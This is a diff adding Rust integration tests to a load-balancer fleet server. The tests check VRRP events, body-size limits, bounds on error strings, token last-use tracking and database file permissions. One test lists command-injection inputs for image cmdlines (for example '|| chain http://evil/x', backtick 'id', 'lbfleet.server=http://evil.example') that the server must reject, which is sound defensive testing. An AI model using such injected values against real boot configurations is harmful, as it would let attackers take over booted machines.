@@ -813,6 +813,40 @@ async fn node_lifecycle_enrollment_reports_and_serving() {
         "{ev}"
     );
 
+    // Reports carry the agent's recent VRRP transitions with reasons: each becomes one event, once.
+    let mut with_transitions = report.clone();
+    with_transitions["vrrp_state"] = json!("backup");
+    with_transitions["vrrp_master"] = json!("198.18.0.3");
+    with_transitions["vrrp_transitions"] = json!([
+        {"from": "init", "to": "master", "reason": "startup", "at_ms": 1_000},
+        {"from": "master", "to": "backup", "reason": "higher priority advert from 198.18.0.3 (priority 200)",
+         "at_ms": 2_000}]);
+    for _ in 0..2 {
+        assert_eq!(
+            srv.post("/api/v1/agent/report", &cred, with_transitions.clone())
+                .await
+                .0,
+            StatusCode::NO_CONTENT
+        );
+    }
+    let (_, ev) = srv.get("/api/v1/events?node=lb-01", &op).await;
+    let vrrp: Vec<&str> = ev["events"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|e| e["kind"] == "vrrp")
+        .map(|e| e["message"].as_str().unwrap_or(""))
+        .collect();
+    assert_eq!(
+        vrrp,
+        vec![
+            "VRRP master -> backup: higher priority advert from 198.18.0.3 (priority 200)",
+            "VRRP init -> master: startup",
+            "VRRP unknown -> master"
+        ],
+        "{ev}"
+    );
+
     // Retire: credentials stop working, the history stays.
     let (s, n) = srv.post("/api/v1/nodes/lb-01/retire", &op, json!({})).await;
     assert_eq!(
@@ -1433,4 +1467,162 @@ async fn cluster_writes_with_if_match_never_overwrite_a_concurrent_change() {
     assert_eq!(s, StatusCode::NO_CONTENT, "{v}");
     let (s, _, _) = conditional(&srv, Method::PUT, path, Some(("if-match", "*")), Some(spec)).await;
     assert_eq!(s, StatusCode::PRECONDITION_FAILED);
+}
+
+/// Issue 13: every endpoint has a body bound (413 past it, by Content-Length or while reading); the cluster PUT
+/// and agent reports have larger ones.
+#[tokio::test]
+async fn oversized_bodies_get_413_per_endpoint() {
+    let dir = tempfile::tempdir().unwrap();
+    let srv = TestServer::start(dir.path()).await;
+    let credential = srv.enrolled_node("52:54:00:cc:00:01", "lb-b1").await;
+    let big = |n: usize| "x".repeat(n);
+    // A 5 MiB agent report (the bound is 4 MiB).
+    let report = json!({"applied_generation": 0, "errors": [big(5 * 1024 * 1024)]});
+    let r = srv
+        .http
+        .post(srv.url("/api/v1/agent/report"))
+        .bearer_auth(&credential)
+        .json(&report)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
+    // A 100 KiB login (64 KiB bound), also when streamed without a length.
+    let login = json!({"username": "admin", "password": big(100 * 1024)}).to_string();
+    let r = srv
+        .http
+        .post(srv.url("/api/v1/login"))
+        .header("content-type", "application/json")
+        .body(login.clone())
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
+    let stream = futures::stream::iter(
+        login
+            .into_bytes()
+            .chunks(8192)
+            .map(|c| Ok::<_, std::io::Error>(c.to_vec()))
+            .collect::<Vec<_>>(),
+    );
+    let r = srv
+        .http
+        .post(srv.url("/api/v1/login"))
+        .header("content-type", "application/json")
+        .body(reqwest::Body::wrap_stream(stream))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
+    // A 2 MiB cluster spec is read (and judged on its content, not its size).
+    let mut spec = common::cluster_spec(51, "198.18.0.10");
+    spec["description"] = json!(big(2 * 1024 * 1024));
+    let (s, _) = srv
+        .put("/api/v1/clusters/ext", &srv.tokens.operator, spec)
+        .await;
+    assert_ne!(s, StatusCode::PAYLOAD_TOO_LARGE);
+}
+
+/// Issue 13: a report keeps at most 10 error strings, each cut to 512 bytes, and says how many it left out.
+#[tokio::test]
+async fn report_errors_are_bounded() {
+    let dir = tempfile::tempdir().unwrap();
+    let srv = TestServer::start(dir.path()).await;
+    let credential = srv.enrolled_node("52:54:00:cc:00:02", "lb-b2").await;
+    let errors: Vec<String> = (0..200)
+        .map(|i| format!("{i} {}", "e".repeat(4000)))
+        .collect();
+    let (s, v) = srv
+        .call(
+            Method::POST,
+            "/api/v1/agent/report",
+            Some(&credential),
+            Some(json!({"applied_generation": 0, "errors": errors})),
+        )
+        .await;
+    assert_eq!(s, StatusCode::NO_CONTENT, "{v}");
+    let (_, node) = srv.get("/api/v1/nodes/lb-b2", &srv.tokens.viewer).await;
+    let kept = node["last_report"]["errors"].as_array().unwrap();
+    assert_eq!(kept.len(), 11, "{node}");
+    assert!(kept[..10].iter().all(|e| e.as_str().unwrap().len() <= 515));
+    assert_eq!(kept[10], "... and 190 more errors");
+}
+
+/// Issue 13: an image's cmdline holds only kernel-argument characters and no lbfleet.* key (it is written into
+/// iPXE scripts, next to the server's own lbfleet.* arguments).
+#[tokio::test]
+async fn image_cmdline_is_limited_to_kernel_arguments() {
+    let dir = tempfile::tempdir().unwrap();
+    let srv = TestServer::start(dir.path()).await;
+    let op = &srv.tokens.operator;
+    let put = |cmdline: &'static str| {
+        srv.put(
+            "/api/v1/images/2026.11.1",
+            op,
+            json!({"kernel": "vmlinuz", "initrd": "initrd.img", "cmdline": cmdline}),
+        )
+    };
+    for bad in [
+        "quiet || chain http://evil/x",
+        "a; shell",
+        "a & b",
+        "x=${net0/ip}",
+        "x=`id`",
+        "a\nshell",
+        "lbfleet.server=http://evil.example",
+        "quiet LBFLEET.token=x",
+        "x=\"a b\"",
+    ] {
+        let (s, v) = put(bad).await;
+        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{bad:?}: {v}");
+        assert!(v.to_string().contains("cmdline"), "{bad:?}: {v}");
+    }
+    let (s, v) = put("console=ttyS0,115200n8 net.ifnames=0 panic=10 isolcpus=1-3 quiet").await;
+    assert!(s.is_success(), "{v}");
+}
+
+/// Issue 13: API tokens record when they were last used.
+#[tokio::test]
+async fn api_tokens_record_their_last_use() {
+    let dir = tempfile::tempdir().unwrap();
+    let srv = TestServer::start(dir.path()).await;
+    let (s, v) = srv.get("/api/v1/tokens", &srv.tokens.admin).await;
+    assert_eq!(s, StatusCode::OK, "{v}");
+    let viewer_token = |v: &Value| {
+        v["tokens"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|t| t["user"] == "view")
+            .unwrap()
+            .clone()
+    };
+    assert!(viewer_token(&v)["last_used_at"].is_null(), "{v}");
+    let (s, _) = srv.get("/api/v1/whoami", &srv.tokens.viewer).await;
+    assert_eq!(s, StatusCode::OK);
+    let (_, v) = srv.get("/api/v1/tokens", &srv.tokens.admin).await;
+    let used = viewer_token(&v)["last_used_at"].as_i64().unwrap_or(0);
+    assert!(used > 0, "{v}");
+}
+
+/// Issue 13: the database (and SQLite's WAL beside it) is created readable only by its owner.
+#[tokio::test]
+async fn database_files_are_private() {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = tempfile::tempdir().unwrap();
+    let srv = TestServer::start(dir.path()).await;
+    let (s, _) = srv
+        .post(
+            "/api/v1/nodes",
+            &srv.tokens.operator,
+            json!({"mac": "52:54:00:cc:00:09"}),
+        )
+        .await;
+    assert_eq!(s, StatusCode::CREATED);
+    let wal = srv.db_path.with_extension("db-wal");
+    for path in [&srv.db_path, &wal] {
+        let mode = std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o600, "{}", path.display());
+    }
 }
